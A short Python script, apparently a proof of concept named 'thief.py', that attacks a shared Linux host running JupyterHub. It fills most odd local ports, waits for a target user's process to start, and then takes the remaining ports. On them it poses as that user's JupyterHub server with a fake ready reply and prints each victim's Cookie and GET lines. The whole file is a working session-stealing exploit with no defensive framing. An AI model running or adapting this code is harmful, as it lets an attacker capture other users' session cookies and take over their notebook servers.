"""A student's program that waits to answer in the place of another's server: python thief.py UID

Linux gives any port odd first; connections leave from even ones. This holds nearly all odd ports. Once
a process of UID runs it takes the rest, and answers as a server of JupyterHub's users that is ready.
"""

import os
import resource
import socket
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

FEW, PER_PROCESS = 6, 3_000
SAID = b"HTTP/1.1 200 OK\r\nX-JupyterHub-Version: 6.1.1\r\nConnection: close\r\n\r\nby the thief"


def hold(ports):
    held = []
    for port in ports:
        trial = socket.socket()
        with suppress(OSError):
            trial.bind(("127.0.0.1", port))
            held.append(trial)
    return held


resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[1:] * 2)
first, last = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())
odd = range(first | 1, last + 1, 2)
many, few = odd[:-FEW], odd[-FEW:]
for start in range(0, len(many), PER_PROCESS):
    if os.fork() == 0:
        held = hold(many[start : start + PER_PROCESS])
        time.sleep(600 if held else 0)
        os._exit(0)
time.sleep(2)
print("ready", flush=True)
while subprocess.run(["/usr/bin/pgrep", "-U", sys.argv[1]], stdout=subprocess.DEVNULL).returncode:
    time.sleep(0.01)
while not (taken := hold(few)):
    time.sleep(0.01)
for listener in taken:
    if os.fork():
        continue
    listener.listen()
    while True:
        connection, _ = listener.accept()
        asked = connection.recv(65_536).decode(errors="replace").split("\r\n")
        connection.sendall(SAID)
        connection.close()
        print("had:", *(line for line in asked if "ookie:" in line or "GET" in line), flush=True)
time.sleep(600)
